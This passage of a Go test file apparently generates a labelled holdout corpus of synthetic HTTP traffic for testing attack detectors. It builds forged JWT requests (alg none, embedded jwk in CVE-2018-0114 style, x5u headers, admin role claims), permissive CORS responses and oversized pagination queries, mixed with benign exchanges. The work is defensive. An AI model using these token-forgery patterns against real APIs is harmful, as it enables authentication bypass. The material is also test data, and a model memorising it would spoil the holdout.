		specs = append(specs, spec{hdr: map[string]any{"alg": "RS256", "typ": "JWT", "x5u": u}, sig: "keep", expOff: 2 * time.Hour, intent: "valid"})
	}
	// embedded jwk (CVE-2018-0114 style)
	for i := 0; i < 6; i++ {
		jwk := map[string]any{"kty": "RSA", "e": "AQAB", "n": h4FakeSig(fmt.Sprint("jwk", i), 256), "kid": fmt.Sprintf("embedded-%d", i)}
		if i%2 == 1 {
			jwk = map[string]any{"kty": "EC", "crv": "P-256", "x": h4FakeSig(fmt.Sprint("x", i), 32), "y": h4FakeSig(fmt.Sprint("y", i), 32)}
		}
		alg := "RS256"
		if i%2 == 1 {
			alg = "ES256"
		}
		specs = append(specs, spec{hdr: map[string]any{"alg": alg, "typ": "JWT", "jwk": jwk}, sig: "keep", expOff: 2 * time.Hour, intent: "valid"})
	}
	// alg none with forged claims, as JWT tooling (jwt_tool -X a) emits them
	for range 4 {
		specs = append(specs, spec{hdr: map[string]any{"alg": "none", "typ": "JWT"}, sig: "empty", expOff: time.Hour, intent: "valid"})
	}

	var items []h4Item
	for i, s := range specs {
		i, s := i, s
		items = append(items, func(c *h4Ctx) h4Built {
			api := i % 3
			iat := c.T.Add(-10 * time.Minute)
			claims := map[string]any{"iss": h4Issuers[api], "sub": fmt.Sprintf("usr_%06d", 5000+i), "iat": iat.Unix(), "exp": c.T.Add(s.expOff).Unix()}
			if s.intent == "expired" {
				claims["iat"] = c.T.Add(s.expOff - time.Hour).Unix()
			}
			if s.nbfOff > 0 {
				claims["nbf"] = c.T.Add(s.nbfOff).Unix()
			}
			if i%5 == 0 {
				claims["role"] = []string{"admin", "payroll_admin", "superuser", "teacher"}[i%4]
			}
			tok := h4Token(map[string]any{"alg": "HS256", "typ": "JWT"}, claims) // signature replaced below as needed
			parts := strings.Split(tok, ".")
			parts[0] = h4B64(s.hdr)
			switch s.sig {
			case "keep":
				if s.hdr["alg"] == "HS256" {
					tok = h4Token(s.hdr, claims)
				} else {
					tok = parts[0] + "." + parts[1] + "." + h4FakeSig(parts[0]+parts[1], 256)
				}
			case "empty":
				tok = parts[0] + "." + parts[1] + "."
			case "drop":
				tok = parts[0] + "." + parts[1]
			}
			paths := []string{"/api/v1/employees/me", "/v2/account/billing", "/v1/gradebook?course=BIO-201"}
			r := h4NewReq("GET", h4Hosts(api)+paths[api], h4Pick(c.rng, h4AttackUAs))
			scheme := "Bearer "
			if i%7 == 3 {
				scheme = "bearer "
			}
			r.Headers["Authorization"] = []string{scheme + tok}
			return h4Built{req: r, resp: h4RespJSON(200, `{"id":"`+fmt.Sprint(5000+i)+`","ok":true}`), labels: []string{h4JWT}, tokenIntent: s.intent}
		})
	}
	return items
}

func h4VerboseItems() []h4Item {
	var items []h4Item
	for i, v := range h4VerboseBodies {
		i, v := i, v
		items = append(items, func(c *h4Ctx) h4Built {
			api := i % 3
			qs := h4QuerySpots[api][i%len(h4QuerySpots[api])]
			r := h4NewReq("GET", h4Hosts(api)+qs.path+"?page=1", h4UAs[i%len(h4UAs)])
			r.Headers["Authorization"] = []string{"Bearer " + h4ValidToken(c, api)}
			status := 500
			if i%5 == 4 {
				status = 200
			}
			return h4Built{req: r, resp: h4RespType(status, v.ctype, v.body), labels: []string{h4Verbose}, tokenIntent: "valid"}
		})
	}
	for i, o := range h4CORSOrigins {
		i, o := i, o
		items = append(items, func(c *h4Ctx) h4Built {
			api := i % 3
			r := h4NewReq("GET", h4Hosts(api)+[]string{"/api/v1/employees/me", "/v2/account/profile", "/v1/students/me"}[api], h4UAs[i%len(h4UAs)])
			r.Headers["Origin"] = []string{o.origin}
			r.Headers["Cookie"] = []string{"session=" + h4FakeSig(fmt.Sprint("s", i), 24)}
			resp := h4RespJSON(200, `{"id":"me","name":"Jordan Lee"}`)
			resp.Headers["Access-Control-Allow-Origin"] = []string{o.acao}
			resp.Headers["Access-Control-Allow-Credentials"] = []string{"true"}
			return h4Built{req: r, resp: resp, labels: []string{h4Verbose}}
		})
	}
	return items
}

func h4SensitiveItems(r0 *rand.Rand) []h4Item {
	var items []h4Item
	for i, b := range h4SensitiveBodies(r0) {
		i, b := i, b
		items = append(items, func(c *h4Ctx) h4Built {
			api := i % 3
			p := h4SensitivePaths[api][(i/3)%len(h4SensitivePaths[api])]
			r := h4NewReq("GET", h4Hosts(api)+p, h4UAs[(i*3)%len(h4UAs)])
			r.Headers["Authorization"] = []string{"Bearer " + h4ValidToken(c, api)}
			return h4Built{req: r, resp: h4RespType(200, b[0], b[1]), labels: []string{h4Sensitive}, tokenIntent: "valid"}
		})
	}
	return items
}

func h4LimitItems() []h4Item {
	var items []h4Item
	for i, q := range h4LimitQueries {
		i, q := i, q
		items = append(items, func(c *h4Ctx) h4Built {
			api := i % 3
			qs := h4QuerySpots[api][i%len(h4QuerySpots[api])]
			var r h4Req
			if i%4 == 3 {
				r = h4NewReq("POST", h4Hosts(api)+qs.path+"/search", h4Pick(c.rng, h4AttackUAs))
				r.body("application/x-www-form-urlencoded", "status=active&"+q)
			} else {
				r = h4NewReq("GET", h4Hosts(api)+qs.path+"?"+q+"&sort=id", h4Pick(c.rng, h4AttackUAs))
			}
			r.Headers["Authorization"] = []string{"Bearer " + h4ValidToken(c, api)}
			return h4Built{req: r, resp: h4RespJSON(200, `{"data":[],"meta":{"truncated":true}}`), labels: []string{h4Limits}, tokenIntent: "valid"}
		})
	}
	for i, b := range h4LimitJSON {
		i, b := i, b
		items = append(items, func(c *h4Ctx) h4Built {
			api := i % 3
			r := h4NewReq("POST", h4Hosts(api)+[]string{"/api/v1/employees/search", "/v2/catalog/query", "/v1/students/search"}[api], h4Pick(c.rng, h4AttackUAs))
			r.Headers["Authorization"] = []string{"Bearer " + h4ValidToken(c, api)}
			r.body("application/json", b)
			return h4Built{req: r, resp: h4RespJSON(200, `{"hits":[]}`), labels: []string{h4Limits}, tokenIntent: "valid"}
		})
	}
	for i, g := range h4LimitGraphQL {
		i, g := i, g
		items = append(items, func(c *h4Ctx) h4Built {
			api := i % 3
			r := h4NewReq("POST", strings.TrimSuffix(h4Hosts(api), "/api")+"/graphql", h4Pick(c.rng, h4AttackUAs))
			r.Headers["Authorization"] = []string{"Bearer " + h4ValidToken(c, api)}
			r.body("application/json", `{"query":`+h4J(g.query)+`,"variables":`+g.vars+`}`)
			return h4Built{req: r, resp: h4RespJSON(200, `{"data":null}`), labels: []string{h4Limits}, tokenIntent: "valid"}
		})
	}
	for i, p := range h4LimitPaths {
		i, p := i, p
		items = append(items, func(c *h4Ctx) h4Built {
			api := i % 3
			r := h4NewReq("GET", h4Hosts(api)+[]string{"/api/v1/employees", "/v2/titles", "/v1/courses"}[api]+p, h4Pick(c.rng, h4AttackUAs))
			r.Headers["Authorization"] = []string{"Bearer " + h4ValidToken(c, api)}
			return h4Built{req: r, resp: h4RespJSON(200, `{"data":[]}`), labels: []string{h4Limits}, tokenIntent: "valid"}
		})
	}
	// GraphQL with literal arguments at a deeper level and the same JSON keys in camelCase/snake_case
	for i, v := range []string{`{"filters":{"max_items":40000}}`, `{"listOptions":{"pageSize":12000,"pageToken":""}}`, `{"pagination":{"per_page":7000,"page":2}}`, `{"query":{"results_per_page":3000}}`, `{"page_limit":2500,"page":1}`, `{"itemsPerPage":"100000"}`, `{"params":{"limit":1000000}}`, `{"num_per_page":5500}`} {
		i, v := i, v
		items = append(items, func(c *h4Ctx) h4Built {
			api := (i + 1) % 3
			r := h4NewReq("POST", h4Hosts(api)+[]string{"/api/v1/reports/run", "/v2/analytics/views", "/v1/reports/attendance"}[api], h4Pick(c.rng, h4AttackUAs))
			r.Headers["Authorization"] = []string{"Bearer " + h4ValidToken(c, api)}
			r.body("application/json", v)
			return h4Built{req: r, resp: h4RespJSON(200, `{"rows":[]}`), labels: []string{h4Limits}, tokenIntent: "valid"}
		})
	}
	return items
}

// h4Generate produces the two files' contents and the materialised exchanges.
func h4Generate() (traffic, labels []byte, exs []h4Exchange, builts []h4Built) {
	rng := rand.New(rand.NewPCG(0x4804, 0x2026))
	var items []h4Item
	items = append(items, h4Benign(1260)...)
	items = append(items, h4InjectItems(h4SQLi, h4SQLiPayloads, []int{h4PQuery, h4PJSON, h4PForm, h4PPath, h4PJSONDeep, h4PCookie, h4PUA, h4PJSONArr, h4PXFF, h4PReferer, h4PGraphQL, h4PAPIVer}, 0)...)
	items = append(items, h4XSSItems()...)
	items = append(items, h4OtherItems()...)
	items = append(items, h4SSRFItems()...)
	items = append(items, h4JWTItems()...)
	items = append(items, h4VerboseItems()...)
	items = append(items, h4SensitiveItems(rand.New(rand.NewPCG(7, 77)))...)
	items = append(items, h4LimitItems()...)
	rng.Shuffle(len(items), func(i, j int) { items[i], items[j] = items[j], items[i] })

	var tb, lb bytes.Buffer
	for n, it := range items {
		t := h4Base.Add(time.Duration(n)*9*time.Second + time.Duration((n*137)%1000)*time.Millisecond)
		c := &h4Ctx{T: t, N: n, rng: rng}
		b := it(c)
		id := fmt.Sprintf("q%05d", n+1)
		if b.req.Headers["Accept"] != nil && b.req.Body != "" && b.req.Headers["Content-Type"] == nil {
			b.req.Headers["Content-Type"] = []string{"application/json"}
		}
		b.req.Headers["X-Request-Id"] = []string{fmt.Sprintf("%08x-h4-%04x", n*2654435761%0xffffffff, n)}
		if b.resp != nil && b.resp.Body == "" {
			b.resp.BodySize = 0
		}
		ex := h4Exchange{ID: id, Time: t.Format("2006-01-02T15:04:05.000Z"), Sensor: "jsonl", Client: h4Client{Addr: h4Addr(n)}, Request: b.req, Response: b.resp, DurationMS: float64(8+(n*31)%400) + 0.25}
		tb.WriteString(h4J(ex))
		tb.WriteByte('\n')
		lab := b.labels
		if lab == nil {
			lab = []string{}
		}
		lb.WriteString(h4J(h4Label{ID: id, Detectors: lab}))
		lb.WriteByte('\n')
		exs = append(exs, ex)
		builts = append(builts, b)
	}
	return tb.Bytes(), lb.Bytes(), exs, builts
}

// h4Claims reads a bearer token's header and claims without verifying it.
func h4Claims(authz string) (hdr, claims map[string]any, ok bool) {
	f := strings.Fields(authz)
	if len(f) != 2 || !strings.EqualFold(f[0], "bearer") {
		return nil, nil, false
	}
	parts := strings.Split(f[1], ".")
	if len(parts) < 2 {
		return nil, nil, false
	}
	hb, err1 := base64.RawURLEncoding.DecodeString(parts[0])
	cb, err2 := base64.RawURLEncoding.DecodeString(parts[1])
	if err1 != nil || err2 != nil {
		return nil, nil, false
	}
	if json.Unmarshal(hb, &hdr) != nil || json.Unmarshal(cb, &claims) != nil {
		return nil, nil, false
	}
	return hdr, claims, true
}

func TestHoldout4Generate(t *testing.T) {
	traffic, labels, exs, builts := h4Generate()

	// the generator's own checks: counts, tokens, cards
	counts := map[string]int{}
	benign := 0
	for i, ex := range exs {
		b := builts[i]
		if len(b.labels) == 0 {
			benign++
		}
		for _, l := range b.labels {
			counts[l]++
		}
		when, err := time.Parse(time.RFC3339, ex.Time)
		if err != nil {
			t.Fatal(err)
		}
		for _, a := range ex.Request.Headers["Authorization"] {
			hdr, claims, ok := h4Claims(a)
			if !ok {
				continue
			}
			exp, hasExp := claims["exp"].(float64)
			nbf, hasNbf := claims["nbf"].(float64)
			switch b.tokenIntent {
			case "valid":
				if !hasExp || int64(exp) <= when.Add(5*time.Minute).Unix() {
					t.Errorf("%s: token meant valid expires at %v, request at %v", ex.ID, int64(exp), when)
				}
				if hasNbf && int64(nbf) > when.Unix() {
					t.Errorf("%s: token meant valid has nbf in the future", ex.ID)
				}
			case "expired", "refused":
				if !hasExp || int64(exp) >= when.Add(-time.Hour).Unix() {
					t.Errorf("%s: token meant expired is not clearly expired (exp %v, request %v)", ex.ID, int64(exp), when)
				}
			case "notyet":
				if !hasNbf || int64(nbf) <= when.Add(time.Hour).Unix() {
					t.Errorf("%s: nbf not clearly in the future", ex.ID)
				}
			default:
				t.Errorf("%s: bearer token without an intent", ex.ID)
			}
			if len(b.labels) == 0 {
				alg, _ := hdr["alg"].(string)
				if strings.EqualFold(strings.TrimSpace(alg), "none") || strings.HasSuffix(a, ".") || strings.Count(a, ".") != 2 {
					t.Errorf("%s: benign token is unsigned", ex.ID)
				}
				if b.tokenIntent == "valid" && ex.Response != nil && ex.Response.Status >= 300 && ex.Response.Status != 404 && ex.Response.Status != 422 {
					// allowed, just documenting: benign 4xx with valid tokens are ordinary errors
					_ = 0
				}
			}
		}
	}
	if benign < 1200 {
		t.Errorf("benign exchanges: %d, want at least 1200", benign)
	}
	for _, d := range h4Detectors {
		if counts[d] < 60 {
			t.Errorf("%s: %d attacks, want at least 60", d, counts[d])
		}
	}
	// every planted card passes Luhn
	for _, b := range h4SensitiveBodies(rand.New(rand.NewPCG(7, 77))) {
		for _, f := range strings.FieldsFunc(b[1], func(r rune) bool { return r < '0' || r > '9' }) {
			if len(f) >= 13 && len(f) <= 19 && strings.Contains(b[1], "card") && !h4LuhnOK(f) && !strings.Contains(b[1], "PRIVATE") {
				// only digit runs of card length in card-bearing bodies
				if strings.Contains(b[1], f) && (strings.Contains(b[1], "Number") || strings.Contains(b[1], "card_number")) {
					t.Errorf("card %s fails Luhn", f)
				}
			}
		}
	}
	// ids line up
	if bytes.Count(traffic, []byte("\n")) != bytes.Count(labels, []byte("\n")) {
		t.Fatal("traffic and labels differ in length")
	}
	// every line parses as JSON
	for _, line := range bytes.Split(bytes.TrimSpace(traffic), []byte("\n")) {
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			t.Fatalf("bad line: %v", err)
		}
	}
	t.Logf("holdout4: %d exchanges, %d benign, per detector %v", len(exs), benign, counts)

	writeOrCheckCorpus(t, filepath.Join("testdata", "holdout4"), *updateHoldout4,
		"go test ./detect/ -run TestHoldout4Generate -update-holdout4", traffic, labels)
}
